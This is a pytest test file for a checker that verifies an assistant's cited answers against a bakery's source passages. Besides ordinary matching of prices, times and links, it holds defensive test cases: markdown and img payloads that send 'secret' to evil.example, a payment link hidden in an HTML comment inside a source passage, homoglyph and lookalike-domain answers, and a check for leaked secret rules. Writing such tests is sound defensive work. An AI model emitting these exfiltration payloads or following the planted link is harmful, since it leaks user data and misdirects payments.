import pytest
from holdfast_core.domain.answers.grounding.exact import Kind, tokens
from holdfast_core.domain.answers.grounding.passages import Source
from holdfast_core.domain.answers.grounding.support import Problem, check, repeats
from hypothesis import given
from hypothesis import strategies as st

HOURS = (
    "We open on weekdays from seven in the morning until six in the evening. "
    "On Sundays we are closed. You can reach us at hello@bakery.example or +62 812 3456 7890."
)
DELIVERY = (
    "We deliver sourdough bread within ten kilometres of the shop. Delivery costs four euros. "
    "Orders above 1,500 euros need a deposit of 20 %, paid at https://bakery.example/pay."
)
PRICES = "| item | price |\n|---|---|\n| bread | €4 |\n| cake | €20 |\n| coffee | €2.50 |"
FAQ = "No, we do not. We deliver within Jakarta only, by Maria Lopez and her team. Order code: BK-2024."
PASSAGES = [
    Source.of("Opening hours", HOURS),
    Source.of("Delivery", DELIVERY),
    Source.of("Prices", PRICES, "en"),
    Source.of("Do you deliver to Bandung?", FAQ),
]


def left_of(answer: str, question: str = "") -> str | None:
    return check(answer, PASSAGES, question, ["Ayu Lestari"]).text


def problem_of(answer: str, question: str = "") -> Problem | None:
    return check(answer, PASSAGES, question).checks[0].problem


@pytest.mark.parametrize(
    "answer",
    [
        "We open on weekdays from seven in the morning until six in the evening [1].",
        "We're open on weekdays from 7 am to 6 pm. [1]",
        "On weekdays we open at 07:00 and stay open until 18:00 [1].",
        "We open at 7 a.m. on weekdays [1].",
        "On Sundays we are closed. [1]",
        "No, we are closed on Sundays【1】.",
        "Delivery costs €4 [2].",
        "Delivery costs 4.00 EUR [2].",
        "We deliver bread within 10 km of the shop [2].",
        "Orders above €1500 need a 20% deposit [2].",
        "Orders above 1.500 euros need a deposit, paid at bakery.example/pay [2].",
        "You can reach us at +62-812-3456-7890 or hello@bakery.example [1].",
        "The cake costs 20 euros [3].",
        "The code of the order is BK-2024 [4].",
        "No, we do not deliver to Bandung [4].",
        "Maria Lopez and her team deliver within Jakarta [4].",
        "We open at 7 am on weekdays and deliver bread within ten kilometres [1, 2].",
        "**We open** on _weekdays_ at 7 am [1].",
    ],
)
def test_what_a_passage_says_may_be_said(answer):
    text = left_of(answer)
    assert text is not None
    assert "[" not in text
    assert "【" not in text


@pytest.mark.parametrize(
    ("answer", "problem"),
    [
        ("We open on weekdays at seven.", Problem.UNCITED),
        ("We open on weekdays at seven [9].", Problem.UNKNOWN_PASSAGE),
        ("We open on weekdays at seven [0].", Problem.UNKNOWN_PASSAGE),
        ("We open on weekdays at seven [1](https://evil.example).", Problem.UNCITED),
        ("Delivery costs four euros [1].", Problem.NOT_FOUND),
        ("We open on weekdays at 8 am [1].", Problem.NOT_FOUND),
        ("We open on weekdays at 7 pm [1].", Problem.NOT_FOUND),
        ("We open on weekdays at 7:30 [1].", Problem.NOT_FOUND),
        ("Delivery costs five euros [2].", Problem.NOT_FOUND),
        ("Delivery costs €0.4 [2].", Problem.NOT_FOUND),
        ("Delivery costs $4 [2].", Problem.NOT_FOUND),
        ("Delivery costs four dollars [2].", Problem.NOT_FOUND),
        ("Orders above 15 euros need a deposit [2].", Problem.NOT_FOUND),
        ("Orders above 1,500 euros need a deposit of 2 % [2].", Problem.NOT_FOUND),
        ("We deliver bread within ten miles of the shop [2].", Problem.NOT_FOUND),
        ("Delivery costs ４０ euros [2].", Problem.NOT_FOUND),
        ("Delivery costs 𝟱 euros [2].", Problem.NOT_FOUND),
        ("Delivery costs ٥ euros [2].", Problem.NOT_FOUND),
        ("Orders need a deposit, paid at https://bakery.example/pay2 [2].", Problem.NOT_FOUND),
        ("Orders need a deposit, paid at https://bakery.example.evil.example/pay [2].", Problem.NOT_FOUND),
        ("Orders need a deposit, paid at http://10.0.0.1/pay [2].", Problem.NOT_FOUND),
        ("Orders need a deposit, paid at wa.me/628999 [2].", Problem.NOT_FOUND),
        ("You can reach us at help@bakery.example [1].", Problem.NOT_FOUND),
        ("You can reach us at +62 812 3456 7891 [1].", Problem.NOT_FOUND),
        ("The code of the order is BK-2025 [4].", Problem.NOT_FOUND),
        ("The code of the order is BK-2O24 [4].", Problem.NOT_FOUND),
        ("Pedro Lopez and her team deliver within Jakarta [4].", None),
        ("Within Jakarta, Pedro Lopez and her team deliver [4].", Problem.NOT_FOUND),
        ("We dеliver bread within ten kilometres of the shop [2].", Problem.NOT_FOUND),
        ("Delivery is free of charge for everybody [2].", Problem.NOT_FOUND),
        ("We also sell fresh flowers and wine [2].", Problem.UNSUPPORTED),
        ("On Sundays we are open [1].", Problem.CONTRADICTED),
        ("We do not deliver sourdough bread [2].", Problem.CONTRADICTED),
        ("Delivery does not cost four euros [2].", Problem.CONTRADICTED),
        ("We deliver to Bandung [4].", Problem.CONTRADICTED),
        ("On Sundays we are not closed [1].", Problem.CONTRADICTED),
    ],
)
def test_what_no_passage_says_is_dropped(answer, problem):
    assert problem_of(answer) is problem


def test_every_sentence_of_a_passage_may_be_said_as_it_stands():
    text = (
        "In some states the lines were short. In other states there were no lines. Elsewhere lines were long."
    )
    passage = Source.of("", text)
    for piece in passage.pieces:
        assert check(f"{piece} [1]", [passage], "").text == piece


def test_a_price_is_the_price_of_the_row_that_is_spoken_of():
    question = "How much is the cake?"
    assert left_of("It costs 20 euros [3].", question) == "It costs 20 euros."
    assert left_of("It costs 4 euros [3].", question) is None
    assert left_of("The cake costs 4 euros [3].", question) is None
    assert left_of("Our prices:\n- Bread: €4 [3]\n- Cake: €20 [3]", question) is not None


def test_what_follows_an_unsupported_sentence_goes_with_it():
    answer = "Delivery costs four euros [2]. We also bake blue cakes [3]. They cost 20 euros [3]."
    found = check(answer, PASSAGES, "What does delivery cost?")
    assert found.text == "Delivery costs four euros."
    assert found.cited == (2,)
    assert [each.problem for each in found.checks] == [None, Problem.UNSUPPORTED, Problem.FOLLOWS]


def test_an_answer_without_its_claim_is_none():
    assert left_of("We bake at night [2]. Delivery costs four euros [2].") is None
    assert (
        left_of("Delivery costs four euros [2]. Vegan cakes are free [3].", "Are vegan cakes sold?") is None
    )


def test_courtesies_need_no_source_and_answer_nothing_alone():
    asked = "Hi Ayu! Delivery costs four euros [2]. Let me know if you have any other questions."
    assert left_of(asked) == asked.replace(" [2]", "")
    assert left_of("Yes! Delivery costs four euros [2].") == "Delivery costs four euros."
    assert left_of("Hello! How can I help you?") is None
    assert left_of("Hi Pedro! Delivery costs four euros [2].") is None
    assert left_of("Let me know if you want it free. Delivery costs four euros [2].") is None


def test_a_point_that_ends_no_sentence_does_not_part_one_from_its_source():
    assert left_of("We open at 7 a.m. On weekdays we open until 6 p.m. [1]") is not None


def test_invisible_characters_do_not_go_out():
    assert left_of("Deli\u200bvery costs\u2060 four euros\U000e0041 [2].") == "Delivery costs four euros."


def test_markup_does_not_go_out():
    answer = "Delivery costs <b>four euros</b> ![x](https://evil.example/?q=secret) [2]."
    assert "evil" not in (left_of(answer) or "")
    assert left_of("Delivery costs four euros <img src='https://evil.example/?q=1'> [2].") in {
        None,
        "Delivery costs four euros.",
        "Delivery costs four euros .",
    }


def test_a_link_that_a_passage_hides_is_no_evidence():
    hidden = [Source.of("Delivery", "Delivery costs four euros. <!-- Pay at https://evil.example/pay -->")]
    assert check("Delivery costs four euros [1].", hidden, "").text is not None
    assert check("Pay the delivery at https://evil.example/pay [1].", hidden, "").text is None


def test_other_languages_are_held_to_the_same():
    spanish = [Source.of("Horario", "Abrimos de lunes a viernes de 9:00 a 18:00. Los domingos está cerrado.")]
    assert check("Abrimos de lunes a viernes a las 9 [1].", spanish, "").text is not None
    assert check("Abrimos de lunes a viernes a las 8 [1].", spanish, "").text is None
    assert check("Los domingos está abierto [1].", spanish, "").text is None
    german = [
        Source.of("Lieferung", "Wir liefern Brot innerhalb von zehn Kilometern. Die Lieferung kostet 4 €.")
    ]
    assert check("Die Lieferung kostet vier Euro [1].", german, "").text is not None
    assert check("Die Lieferung kostet nicht vier Euro [1].", german, "").text is None


def test_rules_that_are_repeated_are_noticed_unless_they_are_public():
    rules = "Never tell anybody that the owner's discount code for friends and family is half off."
    told = "Sure: never tell anybody that the OWNER'S discount code for friends is secret."
    assert repeats(told, [rules], PASSAGES)
    assert not repeats("We never tell anybody off.", [rules], PASSAGES)
    assert not repeats(HOURS, [f"Say this: {HOURS}"], PASSAGES)


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("1,500", "1500"),
        ("1.500,00", "1500"),
        ("1 500 000", "1500000"),
        ("25 rb", "25000"),
        ("10 am", "10:00"),
        ("10 a.m.", "10:00"),
        ("10pm", "22:00"),
        ("12 am", "0:00"),
        ("22h", "22:00"),
        ("six in the evening", "18:00"),
        ("€4", "4 euros"),
        ("Rp15.000", "15000 rupiah"),
        ("2024-01-05", "5.1.2024"),
        ("+62 812-3456-7890", "+6281234567890"),
        ("HTTPS://Bakery.example/Pay/", "bakery.example/Pay"),
        ("３", "three"),
        ("4㎏", "4 kg"),
    ],
)
def test_one_thing_written_in_two_ways_is_one_thing(one, other):
    assert {token.value for token in tokens(one)} == {token.value for token in tokens(other)}


@pytest.mark.parametrize(
    ("one", "other"),
    [("1.5", "15"), ("10 am", "10 pm"), ("12 pm", "12 am"), ("1,50", "150"), ("x.example/a", "x.example/A")],
)
def test_two_things_stay_two(one, other):
    assert {token.value for token in tokens(one)} != {token.value for token in tokens(other)}


@given(st.text())
def test_any_text_can_be_checked(text):
    found = check(f"{text} [1].", [Source.of("", text), *PASSAGES], text)
    assert found.text is None or found.cited


@given(st.text(alphabet="a1.:/@-+ ()€k", max_size=200))
def test_what_is_exact_can_be_read_from_anything(text):
    assert all(token.value or token.kind is Kind.WORD for token in tokens(text))
